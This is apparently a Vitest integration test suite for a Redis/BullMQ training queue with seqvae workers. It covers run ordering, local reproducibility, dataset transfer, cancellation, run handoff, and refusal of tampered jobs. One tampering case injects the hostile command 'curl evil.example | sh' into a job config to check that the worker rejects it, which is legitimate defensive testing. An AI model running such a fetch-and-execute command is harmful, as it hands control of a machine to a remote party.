import { readdirSync } from 'node:fs'
import { hostname } from 'node:os'
import path from 'node:path'
import { Queue } from 'bullmq'
import { describe, expect, it } from 'vitest'
import { BULL_PREFIX, QUEUE_NAME } from '../../../../../src/main/lab/jobs/queue/queue-keys'
import { Lab } from '../../../../../src/main/lab/lab'
import { DEFAULT_RUN_CONFIG, type RunConfigInput } from '../../../../../src/shared/run-config'
import { nextEvent, openQueueHub } from '../../../../helpers/queue-hub'
import { openStore } from '../../../../helpers/open-store'
import { useRedisForSuite } from '../../../../helpers/redis-suite'
import { useTempDirs } from '../../../../helpers/temp-dir'
import { startWorker } from '../../../../helpers/worker-process'

const RUN: RunConfigInput = { epochs: 2, trainLimit: 300, valLimit: 60, evalLimit: 60, batchSize: 32 }

/** Sixty short series in UCR layout (label, values…), as a user would import them. */
const SENSOR_CSV = new TextEncoder().encode(
  Array.from({ length: 60 }, (_, i) => [i % 2, ...Array.from({ length: 16 }, (_, t) => Math.sin(t / 2 + i).toFixed(4))].join(',')).join('\n'),
)

describe('training on a Redis queue with seqvae worker processes', () => {
  const tempDir = useTempDirs()
  const suiteRedis = useRedisForSuite()

  it('shows queued runs in order, trains them on a worker exactly as the serving process would, and records where', async () => {
    const hub = openQueueHub(tempDir(), suiteRedis().url)
    const runs = [await hub.createRun(RUN, 'first'), await hub.createRun(RUN, 'second'), await hub.createRun({ ...RUN, seed: 7 }, 'third')]
    await expect.poll(() => hub.getQueueStatus()).toEqual({
      mode: 'queue',
      address: suiteRedis().url,
      problem: null,
      waiting: runs.map((r, i) => ({ runId: r.id, position: i + 1 })),
      workers: [],
      localJobs: 0,
    })

    const worker = startWorker(suiteRedis().url, tempDir(), ['--name', 'box-a'])
    for (const run of runs) expect((await hub.waitForRun(run.id)).status).toBe('finished')
    const detail = await hub.getRun(runs[0].id)
    expect(detail.env?.trainedOn).toEqual([{ worker: 'box-a', host: hostname(), fromEpoch: 1 }])
    expect(detail.env?.engine).toBe('fused')
    await expect.poll(async () => (await hub.getQueueStatus()).workers).toEqual([
      expect.objectContaining({ name: 'box-a', host: hostname(), concurrency: 1, jobsDone: 3, runs: [], alive: true, engine: expect.stringContaining('1 thread per run') }),
    ])

    // The same config trained by a local Lab: the same losses and bit-identical weights and codes.
    const local = Lab.open({ dataDir: tempDir() })
    const reference = await local.waitForRun((await local.createRun(RUN)).id)
    const [remoteMetrics, localMetrics] = [(await hub.getMetrics([runs[0].id]))[0], (await local.getMetrics([reference.id]))[0]]
    expect(remoteMetrics.epochs.map((m) => [m.epoch, m.loss, m.valLoss])).toEqual(localMetrics.epochs.map((m) => [m.epoch, m.loss, m.valLoss]))
    expect(await hub.getLatents(runs[0].id)).toEqual({ ...(await local.getLatents(reference.id)), runId: runs[0].id })
    // Each epoch's latent snapshot travels with the epoch's record.
    const remoteTimeline = await hub.getLatentTimeline(runs[0].id)
    expect(remoteTimeline.epochs).toEqual([1, 2])
    expect(remoteTimeline).toEqual({ ...(await local.getLatentTimeline(reference.id)), runId: runs[0].id })
    await local.close()

    await worker.stop()
    // A worker that stops cleanly leaves the list rather than showing as vanished.
    await expect.poll(async () => (await hub.getQueueStatus()).workers).toEqual([])
    await hub.close()
  })

  it('sends an imported dataset once by its hash, and a cancel reaches the worker within a batch', async () => {
    const hubDir = tempDir()
    const hub = openQueueHub(hubDir, suiteRedis().url)
    await hub.importDataset({ name: 'sensor.csv', bytes: SENSOR_CSV }, { name: 'sensor', normalisation: 'z-score' })
    const workerDir = tempDir()
    const worker = startWorker(suiteRedis().url, workerDir, ['--name', 'box-b'])
    const onSensor = { ...RUN, dataset: 'sensor', trainLimit: undefined, valLimit: undefined, evalLimit: undefined }
    const a = await hub.createRun(onSensor, 'sensor a')
    const b = await hub.createRun({ ...onSensor, seed: 3 }, 'sensor b')
    expect((await hub.waitForRun(a.id)).status).toBe('finished')
    expect((await hub.waitForRun(b.id)).status).toBe('finished')
    expect((await hub.getRun(a.id)).config).toMatchObject({ dataset: 'sensor', likelihood: 'gaussian' })
    expect(readdirSync(path.join(workerDir, 'worker-cache', 'datasets'))).toEqual([expect.stringMatching(/^[0-9a-f]{64}\.dataset$/)])

    const long = await hub.createRun({ ...RUN, epochs: 500 }, 'long')
    await nextEvent(hub, (e) => e.runId === long.id && e.type === 'epoch')
    await hub.cancelRun(long.id)
    const cancelled = await hub.getRun(long.id)
    expect(cancelled).toMatchObject({ status: 'cancelled', error: null })
    expect(cancelled.epochsDone).toBeLessThan(500)
    // The worker stopped training it (it says so) and takes the next run.
    await worker.waitFor(new RegExp(`job run-${long.id}-1-\\w+: cancelled`))
    expect((await hub.waitForRun((await hub.createRun(RUN)).id)).status).toBe('finished')
    await worker.stop()
    await hub.close()
  })

  it('hands a run back to the queue when its worker is stopped with Ctrl-C, and another worker resumes it', async () => {
    const hub = openQueueHub(tempDir(), suiteRedis().url)
    const leaving = startWorker(suiteRedis().url, tempDir(), ['--name', 'leaving'])
    const run = await hub.createRun({ ...RUN, epochs: 4, trainLimit: 2500 }, 'handed back')
    await nextEvent(hub, (e) => e.runId === run.id && e.type === 'epoch')
    expect(await leaving.stop()).toBe(0)
    expect(leaving.output()).toContain('handing the runs in training back to the queue')
    await expect.poll(async () => (await hub.getQueueStatus()).waiting).toEqual([{ runId: run.id, position: 1 }])
    expect((await hub.getRun(run.id)).status).toBe('queued')

    const staying = startWorker(suiteRedis().url, tempDir(), ['--name', 'staying'])
    const done = await hub.waitForRun(run.id)
    expect(done.status).toBe('finished')
    expect(done.env?.trainedOn?.map((p) => p.worker)).toEqual(['leaving', 'staying'])
    expect((await hub.getMetrics([run.id]))[0].epochs.map((m) => m.epoch)).toEqual([1, 2, 3, 4])
    await staying.stop()
    await hub.close()
  })

  it('refuses a malformed or hostile job with a sentence on its run, and keeps serving', async () => {
    const hubDir = tempDir()
    const hub = openQueueHub(hubDir, suiteRedis().url)
    const hostile = [await hub.createRun(RUN, 'unknown field'), await hub.createRun(RUN, 'oversize'), await hub.createRun(RUN, 'wrong types')]
    // Someone with access to Redis rewrites the jobs before any worker takes them.
    const queue = new Queue(QUEUE_NAME, { connection: { host: '127.0.0.1', port: suiteRedis().port }, prefix: BULL_PREFIX })
    const store = openStore(hubDir)
    const jobOf = async (runId: number) => {
      const jobId = () => store.queue.get(runId)?.jobId ?? 'none'
      await expect.poll(async () => (await queue.getJob(jobId()))?.data.runId).toBe(runId)
      return (await queue.getJob(jobId()))!
    }
    const tamper = async (runId: number, config: object) => {
      const job = await jobOf(runId)
      await job.updateData({ ...job.data, config })
    }
    await tamper(hostile[0].id, { ...DEFAULT_RUN_CONFIG, ...RUN, command: 'curl evil.example | sh' })
    await tamper(hostile[1].id, { ...DEFAULT_RUN_CONFIG, ...RUN, name: 'x'.repeat(100_000) })
    await tamper(hostile[2].id, { ...DEFAULT_RUN_CONFIG, ...RUN, epochs: 'forever', hiddenUnits: -1 })
    await queue.add('train', { protocol: 1, note: 'names no run' })
    await queue.close()
    store.close()

    const worker = startWorker(suiteRedis().url, tempDir(), ['--name', 'box-c'])
    const errors = await Promise.all(hostile.map(async (run) => (await hub.waitForRun(run.id)).error))
    expect(errors).toEqual([
      `worker box-c (${hostname()}) refused the job: unknown field: command`,
      expect.stringMatching(new RegExp(`^worker box-c \\(${hostname()}\\) refused the job: the job holds \\d+ bytes, more than the 16384 a job may hold$`)),
      `worker box-c (${hostname()}) refused the job: hiddenUnits must be an integer between 1 and 1024; epochs must be an integer between 1 and 10000`,
    ])
    for (const run of hostile) expect((await hub.getRun(run.id)).status).toBe('failed')
    await worker.waitFor(/refused and names no run to tell: runId must be a positive integer/)
    // Nothing was trained for them, and the worker trains the next good run.
    expect((await hub.getMetrics(hostile.map((r) => r.id))).map((m) => m.epochs.length)).toEqual([0, 0, 0])
    expect((await hub.waitForRun((await hub.createRun(RUN)).id)).status).toBe('finished')
    await worker.stop()
    await hub.close()
  })
})
